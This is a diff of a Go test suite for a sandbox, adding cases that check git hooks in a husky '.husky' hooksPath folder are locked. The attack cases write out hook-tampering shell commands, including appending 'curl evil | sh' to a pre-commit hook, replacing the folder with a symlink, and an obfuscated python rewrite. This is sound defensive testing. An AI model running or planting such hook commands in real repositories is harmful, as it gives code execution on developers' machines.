@@ -32,12 +32,18 @@ type attack struct {
 	// rootOnly: unconfined, only root can do it (the control is skipped
 	// for an ordinary user; the sandbox must refuse it for both).
 	rootOnly bool
+	// setup, when set, prepares each world (the sandbox's and the
+	// control's) before the script runs.
+	setup func(t *testing.T, w *world)
 }
 
 func (a attack) check(t *testing.T) {
 	t.Helper()
 	w := newWorld(t)
 	w.env = append(w.env, "F="+w.forge, "A="+attackBin)
+	if a.setup != nil {
+		a.setup(t, w)
+	}
 	out, _ := w.run(t, a.script)
 	if a.effect(t, w) {
 		t.Errorf("%s: the attack worked under the sandbox:\n%s", a.name, out)
@@ -47,6 +53,9 @@ func (a attack) check(t *testing.T) {
 	}
 	c := newWorld(t)
 	c.env = append(c.env, "F="+c.forge, "A="+attackBin)
+	if a.setup != nil {
+		a.setup(t, c)
+	}
 	out, err := c.runPlain(t, a.script)
 	if !c.effect(t, a) {
 		t.Errorf("%s: control: the attack did not work unconfined either (%v), so the test shows nothing:\n%s", a.name, err, out)
@@ -110,6 +119,31 @@ f=open('.git/config','r+'); f.write('[c0re]\n'); f.close()"`, effect: sameSize},
 			fi, err := os.Stat(filepath.Join(w.home, ".ssh", "id_ed25519"))
 			return err == nil && fi.Mode().Perm() == 0o644
 		}},
+	} {
+		t.Run(a.name, func(t *testing.T) { a.check(t) })
+	}
+}
+
+// TestHooksPathAttacks: a repository whose git config names a hooks
+// folder in the work tree (husky's core.hooksPath = .husky) has that
+// folder locked like .git/hooks: a hook written, added, or the folder
+// moved or made a link would run at the person's next git command.
+func TestHooksPathAttacks(t *testing.T) {
+	needNamespaces(t)
+	husky := func(t *testing.T, w *world) {
+		write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n\thooksPath = .husky\n")
+		write(t, filepath.Join(w.proj, ".husky", "pre-commit"), "npm test\n")
+	}
+	moved := func(t *testing.T, w *world) bool {
+		b, err := os.ReadFile(filepath.Join(w.proj, ".husky", "pre-commit"))
+		return err != nil || string(b) != "npm test\n"
+	}
+	for _, a := range []attack{
+		{name: "append to a hook", script: `echo 'curl evil | sh' >> .husky/pre-commit`, effect: fileHas(".husky/pre-commit", "evil"), setup: husky},
+		{name: "add a hook", script: `printf '#!/bin/sh\necho pwned\n' > .husky/post-checkout`, effect: fileHas(".husky/post-checkout", "pwned"), setup: husky},
+		{name: "replace the folder", script: `mv .husky .husky.old && mkdir .husky && echo pwned > .husky/pre-commit`, effect: moved, setup: husky},
+		{name: "the folder a link", script: `rm -rf .husky && ln -s "$F" .husky`, effect: isLink(".husky"), setup: husky},
+		{name: "python rewrite", script: `python3 -c "open('.hu'+'sky/pre-commit','w').write('echo pwned')"`, effect: fileHas(".husky/pre-commit", "pwned"), setup: husky},
 	} {
 		t.Run(a.name, func(t *testing.T) { a.check(t) })
 	}
